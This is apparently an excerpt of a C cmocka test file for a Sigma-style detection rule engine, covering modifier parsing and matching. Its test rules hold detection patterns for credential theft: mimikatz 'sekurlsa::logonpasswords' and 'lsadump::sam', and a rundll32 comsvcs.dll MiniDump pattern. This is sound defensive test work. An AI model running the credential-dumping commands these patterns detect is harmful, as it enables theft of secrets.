    assert_matches_ph(r, placeholders, no2, 0);
    free(yes);
    free(yes2);
    free(no);
    free(no2);
}

static void test_expand_unresolved_rejected(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    User|expand: '%JumpServers%'\n  condition: sel\n");
    struct tu_diag d = {0};
    assert_true(rule_rejected_ex(r, placeholders, "JumpServers", &d));
    assert_int_equal(d.code, STOAT_ERR_PLACEHOLDER);
    tu_diag_clear(&d);
    /* no placeholder file at all */
    assert_true(rule_rejected_ex(r, NULL, "JumpServers", NULL));
}

/* ------------------------------------------------------------- fieldref */

static void test_fieldref(void **state)
{
    (void)state;
    const char *eq = PROC_RULE("  sel:\n    ParentUser|fieldref: User\n  condition: sel\n");
    expect_proc(1, eq, "User", "CORP\\bob", "ParentUser", "CORP\\bob");
    expect_proc(1, eq, "User", "CORP\\bob", "ParentUser", "corp\\BOB"); /* case-insensitive */
    expect_proc(0, eq, "User", "CORP\\bob", "ParentUser", "CORP\\alice");
    expect_proc(0, eq, "ParentUser", "CORP\\bob"); /* no User */

    const char *sw = PROC_RULE("  sel:\n    CommandLine|fieldref|startswith: Image\n  condition: sel\n");
    expect_proc(1, sw, "Image", "C:\\t\\a.exe", "CommandLine", "C:\\t\\a.exe -x");
    expect_proc(0, sw, "Image", "C:\\t\\a.exe", "CommandLine", "\"C:\\t\\a.exe\" -x");

    const char *ew = PROC_RULE("  sel:\n    TargetFilename|fieldref|endswith: OriginalFileName\n"
                               "  condition: sel\n");
    expect_proc(1, ew, "TargetFilename", "C:\\x\\mimi.exe", "OriginalFileName", "mimi.exe");
    expect_proc(0, ew, "TargetFilename", "C:\\x\\mimi.exe.txt", "OriginalFileName", "mimi.exe");

    const char *ct = PROC_RULE("  sel:\n    CommandLine|fieldref|contains: User\n  condition: sel\n");
    expect_proc(1, ct, "CommandLine", "runas /user:bob x", "User", "bob");
    expect_proc(0, ct, "CommandLine", "runas /user:alice x", "User", "bob");

    const char *ne = PROC_RULE("  sel:\n    ParentUser|fieldref|neq: User\n  condition: sel\n");
    expect_proc(1, ne, "User", "CORP\\bob", "ParentUser", "NT AUTHORITY\\SYSTEM");
    expect_proc(0, ne, "User", "CORP\\bob", "ParentUser", "CORP\\bob");
}

/* ----------------------------------------------------- numeric compares */

static void test_numeric(void **state)
{
    (void)state;
    const char *gt = PROC_RULE("  sel:\n    TerminalSessionId|gt: 1\n  condition: sel\n");
    expect_proc(1, gt, "#TerminalSessionId", "2");
    expect_proc(0, gt, "#TerminalSessionId", "1");
    expect_proc(0, gt, "#TerminalSessionId", "0");
    expect_proc(1, gt, "TerminalSessionId", "5");    /* a number written as a string */
    expect_proc(0, gt, "TerminalSessionId", "five"); /* not a number: no match */
    expect_proc(0, gt, "TerminalSessionId", "");
    expect_proc(0, gt, "#TerminalSessionId", "null");
    const char *gte = PROC_RULE("  sel:\n    TerminalSessionId|gte: 1\n  condition: sel\n");
    expect_proc(1, gte, "#TerminalSessionId", "1");
    expect_proc(0, gte, "#TerminalSessionId", "0");
    const char *lt = PROC_RULE("  sel:\n    Delta|lt: -5\n  condition: sel\n");
    expect_proc(1, lt, "#Delta", "-10");
    expect_proc(0, lt, "#Delta", "-5");
    expect_proc(0, lt, "#Delta", "3");
    const char *lte = PROC_RULE("  sel:\n    Delta|lte: -5\n  condition: sel\n");
    expect_proc(1, lte, "#Delta", "-5");
    expect_proc(1, lte, "#Delta", "-5.0");
    expect_proc(0, lte, "#Delta", "-4.999");
    const char *dec = PROC_RULE("  sel:\n    Ratio|gte: 2.5\n  condition: sel\n");
    expect_proc(1, dec, "#Ratio", "2.5");
    expect_proc(1, dec, "#Ratio", "3");
    expect_proc(1, dec, "#Ratio", "25e-1");
    expect_proc(0, dec, "#Ratio", "2.49");
    expect_proc(0, dec, "Ratio", "2.5abc");
    const char *ltdec = PROC_RULE("  sel:\n    Ratio|lt: 0.5\n  condition: sel\n");
    expect_proc(1, ltdec, "#Ratio", "-0.25");
    expect_proc(0, ltdec, "#Ratio", "0.5");
    /* a quoted number in the rule is still a number for a comparison */
    const char *q = PROC_RULE("  sel:\n    TerminalSessionId|lt: '10'\n  condition: sel\n");
    expect_proc(1, q, "#TerminalSessionId", "9");
    expect_proc(0, q, "#TerminalSessionId", "10");
    assert_true(rule_rejected(PROC_RULE("  sel:\n    TerminalSessionId|gt: 'ten'\n  condition: sel\n"), "number"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    TerminalSessionId|gt|lt: 1\n  condition: sel\n"), "lt"));
}

/* ------------------------------------------------------------------ time */

static void test_time_parts(void **state)
{
    (void)state;
    /* 2025-11-27 is a Thursday of ISO week 48 */
    const char *sysmon_time = "2025-11-27 07:40:10.132";
    const char *iso_time = "2025-11-27T07:40:10.165324Z";
    static const struct {
        const char *mods;
        const char *value;
        int expect;
    } cases[] = {
        {"minute", "40", 1},     {"minute", "41", 0},     {"hour", "7", 1},        {"hour", "8", 0},
        {"day", "27", 1},        {"day", "28", 0},        {"week", "48", 1},       {"week", "47", 0},
        {"month", "11", 1},      {"month", "12", 0},      {"year", "2025", 1},     {"year", "2024", 0},
        {"hour|gte", "7", 1},    {"hour|gt", "7", 0},     {"hour|lt", "8", 1},     {"hour|lte", "6", 0},
        {"month|gt", "10", 1},   {"year|lt", "2026", 1},  {"year|gte", "2026", 0}, {"week|lte", "48", 1},
        {"minute|neq", "40", 0}, {"minute|neq", "39", 1},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char buf[512];
        snprintf(buf, sizeof(buf), PROC_RULE("  sel:\n    UtcTime|%s: %s\n  condition: sel\n"), cases[i].mods,
                 cases[i].value);
        int got = tu_match_proc(buf, "UtcTime", sysmon_time, NULL);
        if (got != cases[i].expect)
            fprintf(stderr, "  -- UtcTime|%s: %s on %s: got %d\n", cases[i].mods, cases[i].value, sysmon_time, got);
        assert_int_equal(got, cases[i].expect);
        got = tu_match_proc(buf, "UtcTime", iso_time, NULL);
        if (got != cases[i].expect)
            fprintf(stderr, "  -- UtcTime|%s: %s on %s: got %d\n", cases[i].mods, cases[i].value, iso_time, got);
        assert_int_equal(got, cases[i].expect);
    }
    /* not a date: no match */
    const char *r = PROC_RULE("  sel:\n    UtcTime|hour: 7\n  condition: sel\n");
    expect_proc(0, r, "UtcTime", "seven o'clock");
    expect_proc(0, r, "UtcTime", "2025-13-27 07:40:10");
    /* "not designed to handle timezone conversions": the hour as written */
    expect_proc(1, r, "UtcTime", "2025-11-27T07:40:10+05:00");
    /* ISO weeks at year boundaries */
    const char *w53 = PROC_RULE("  sel:\n    UtcTime|week: 53\n  condition: sel\n");
    expect_proc(1, w53, "UtcTime", "2021-01-03 12:00:00.000");
    expect_proc(1, w53, "UtcTime", "2026-12-31 12:00:00.000");
    const char *w1 = PROC_RULE("  sel:\n    UtcTime|week: 1\n  condition: sel\n");
    expect_proc(1, w1, "UtcTime", "2024-12-30 12:00:00.000");
    assert_true(rule_rejected(PROC_RULE("  sel:\n    UtcTime|hour: 'noon'\n  condition: sel\n"), "number"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    UtcTime|hour|day: 1\n  condition: sel\n"), "day"));
}

/* ---------------------------------------------------------- null, empty */

static void test_null_and_empty(void **state)
{
    (void)state;
    const char *nul = PROC_RULE("  sel:\n    Image|endswith: '\\x.exe'\n  filter:\n    ParentUser: null\n"
                                "  condition: sel and not filter\n");
    expect_proc(1, nul, "Image", "C:\\x.exe", "ParentUser", "bob");
    expect_proc(0, nul, "Image", "C:\\x.exe");                        /* absent is null */
    expect_proc(0, nul, "Image", "C:\\x.exe", "#ParentUser", "null"); /* JSON null */
    expect_proc(1, nul, "Image", "C:\\x.exe", "ParentUser", "");      /* empty is not null */
    const char *empty = PROC_RULE("  sel:\n    ParentUser: ''\n  condition: sel\n");
    expect_proc(1, empty, "ParentUser", "");
    expect_proc(0, empty, "ParentUser", "x");
    expect_proc(0, empty, "User", "");
    /* null may not share a list with other values, nor take modifiers */
    assert_true(
        rule_rejected(PROC_RULE("  sel:\n    ParentUser:\n      - ''\n      - null\n  condition: sel\n"), "null"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    ParentUser|contains: null\n  condition: sel\n"), "null"));
}

/* -------------------------------------------------------------- keywords */

static void test_keywords(void **state)
{
    (void)state;
    const char *any = PROC_RULE("  keywords:\n    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\n"
                                "  condition: keywords\n");
    expect_proc(1, any, "CommandLine", "mimikatz.exe \"sekurlsa::logonpasswords\" exit");
    expect_proc(1, any, "ParentCommandLine", "x LSADUMP::SAM y"); /* any field, any case */
    expect_proc(1, any, "Description", "lsadump::sam");
    expect_proc(0, any, "CommandLine", "mimikatz.exe coffee");
    const char *all = PROC_RULE("  keywords:\n    '|all':\n      - 'OabVirtualDirectory'\n"
                                "      - ' -ExternalUrl '\n  condition: keywords\n");
    expect_proc(1, all, "CommandLine", "Set-OabVirtualDirectory -ExternalUrl http://x");
    expect_proc(1, all, "CommandLine", "Set-OabVirtualDirectory", "Payload", "a -externalurl b"); /* two fields */
    expect_proc(0, all, "CommandLine", "Set-OabVirtualDirectory -InternalUrl http://x");
    /* a single keyword string */
    const char *one = PROC_RULE("  keywords: 'evilservice'\n  condition: keywords\n");
    expect_proc(1, one, "ServiceName", "EvilService");
    expect_proc(0, one, "ServiceName", "GoodService");
    /* keywords with wildcards */
    const char *wild = PROC_RULE("  keywords:\n    - 'invoke-*mimikatz'\n  condition: keywords\n");
    expect_proc(1, wild, "ScriptBlockText", "iex; Invoke-SharpMimikatz -x");
    expect_proc(0, wild, "ScriptBlockText", "mimikatz invoke");
    /* keywords and fields together */
    const char *mix = PROC_RULE("  sel:\n    Image|endswith: '\\rundll32.exe'\n  kw:\n    - 'comsvcs'\n"
                                "  condition: sel and kw\n");
    expect_proc(1, mix, "Image", "C:\\w\\rundll32.exe", "CommandLine", "rundll32 C:\\w\\comsvcs.dll MiniDump");
    expect_proc(0, mix, "Image", "C:\\w\\rundll32.exe", "CommandLine", "rundll32 shell32.dll");
    /* a field modifier makes no sense on a keyword */
    assert_true(rule_rejected(PROC_RULE("  keywords:\n    '|cidr': '10.0.0.0/8'\n  condition: keywords\n"), "keyword"));
    /* neq has no field to differ from: refused rather than matching the
     * keyword it was meant to exclude */
    assert_true(rule_rejected(PROC_RULE("  keywords:\n    '|neq': 'evil'\n  condition: keywords\n"), "keyword"));
}

/* ------------------------------------------------------- case folding */

static void test_case_insensitive_non_ascii(void **state)
{
    (void)state;
    const char *fr = PROC_RULE("  sel:\n    CommandLine|contains: 'ÉCOLE'\n  condition: sel\n");
    expect_proc(1, fr, "CommandLine", "copy C:\\école\\x");
    expect_proc(1, fr, "CommandLine", "copy C:\\ÉCOLE\\x");
    expect_proc(0, fr, "CommandLine", "copy C:\\ecole\\x"); /* no accent folding, only case */
    const char *ru = PROC_RULE("  sel:\n    TargetFilename|endswith: '\\ПРОЕКТ.docx'\n  condition: sel\n");
    expect_proc(1, ru, "TargetFilename", "C:\\Users\\a\\проект.DOCX");
    expect_proc(1, ru, "TargetFilename", "C:\\Users\\a\\Проект.docx");
    expect_proc(0, ru, "TargetFilename", "C:\\Users\\a\\проекты.docx");
    const char *eq = PROC_RULE("  sel:\n    User: 'ΑΘΗΝΑ\\Ωμέγα'\n  condition: sel\n");
    expect_proc(1, eq, "User", "αθηνα\\ωμέγα");
    expect_proc(0, eq, "User", "αθηνα\\ωμεγα");
    /* Latin Extended-A: Ł/ł, Ž/ž */
    const char *pl = PROC_RULE("  sel:\n    User|contains: 'ŁUKASZ'\n  condition: sel\n");
    expect_proc(1, pl, "User", "CORP\\łukasz");
    const char *cz = PROC_RULE("  sel:\n    User|startswith: 'žofie'\n  condition: sel\n");
    expect_proc(1, cz, "User", "ŽOFIE.N");
    /* cased keeps them apart */
    const char *cased = PROC_RULE("  sel:\n    User|cased: 'Žofie'\n  condition: sel\n");
    expect_proc(1, cased, "User", "Žofie");
    expect_proc(0, cased, "User", "žofie");
}

static void test_unknown_modifier_rejected(void **state)
{
    (void)state;
    struct tu_diag d = {0};
    assert_true(
        rule_rejected_ex(PROC_RULE("  sel:\n    CommandLine|containz: 'x'\n  condition: sel\n"), NULL, "containz", &d));
    assert_int_equal(d.line, 8); /* the key's line */
    assert_int_equal(d.column, 5);
    assert_non_null(d.field);
    assert_string_equal(d.field, "CommandLine");
    assert_non_null(d.rule_id);
    tu_diag_clear(&d);
    /* two type modifiers */
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|re|cidr: 'x'\n  condition: sel\n"), "cidr"));
    /* an encoding after a type modifier */
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|re|base64: 'x'\n  condition: sel\n"), "base64"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_equality),
        cmocka_unit_test(test_contains),
        cmocka_unit_test(test_startswith),
        cmocka_unit_test(test_endswith),
        cmocka_unit_test(test_list_is_or),
        cmocka_unit_test(test_all),
        cmocka_unit_test(test_all_single_value_rejected),
        cmocka_unit_test(test_exists),
        cmocka_unit_test(test_cased),
        cmocka_unit_test(test_neq),
        cmocka_unit_test(test_wildcards_in_values),
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_base64offset),
        cmocka_unit_test(test_wide_base64offset),
        cmocka_unit_test(test_wide_base64),
        cmocka_unit_test(test_utf16_raw),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_windash_then_base64),
        cmocka_unit_test(test_re),
        cmocka_unit_test(test_re_shorter_than_any_match),
        cmocka_unit_test(test_re_flags_need_re),
        cmocka_unit_test(test_cidr_ipv4),
        cmocka_unit_test(test_cidr_ipv6),
        cmocka_unit_test(test_cidr_list_once),
        cmocka_unit_test(test_cidr_bad_rejected),
        cmocka_unit_test(test_expand),
        cmocka_unit_test(test_expand_escaped_percent),
        cmocka_unit_test(test_expand_unresolved_rejected),
        cmocka_unit_test(test_fieldref),
        cmocka_unit_test(test_numeric),
        cmocka_unit_test(test_time_parts),
        cmocka_unit_test(test_null_and_empty),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_case_insensitive_non_ascii),
        cmocka_unit_test(test_unknown_modifier_rejected),
    };
    return cmocka_run_group_tests_name("modifiers", tests, NULL, NULL);
}
